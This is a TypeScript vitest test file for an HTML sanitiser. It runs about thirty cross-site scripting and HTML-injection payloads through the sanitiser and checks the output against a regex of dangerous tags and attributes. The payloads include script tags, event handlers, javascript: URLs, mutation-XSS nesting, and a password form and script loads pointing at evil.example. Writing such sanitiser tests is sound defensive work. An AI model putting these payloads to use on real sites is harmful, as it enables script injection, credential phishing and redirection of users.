import { describe, expect, it } from 'vitest'
import { cleanHtml } from './clean-html.ts'

/** Each would run, load, cover the page or leave it, if one part of it were let through. */
const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR = "alert(1)">',
  '<img src=`x` onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<form action="https://evil.example"><input name=password><button>登录</button></form>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<style>*{background:url(https://evil.example)}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<template><script>alert(1)</script></template>',
]
const RUNS =
  /<\/?(script|svg|math|iframe|object|embed|form|input|button|base|link|meta|style|details|template)\b|\son\w+\s*=|javascript:|vbscript:|data:text|position|expression|url\(/i

describe('a rich text', () => {
  it.each(payloads)('brings nothing that runs, loads or covers the page: %s', (payload) => {
    const cleaned = cleanHtml(`<p>前</p>${payload}<p>后</p>`)
    expect(cleaned).not.toMatch(RUNS)
    expect(cleaned).toContain('<p>前</p>')
    // What is cleaned twice (on write and again on read) stays as it is.
    expect(cleanHtml(cleaned)).toBe(cleaned)
  })
})
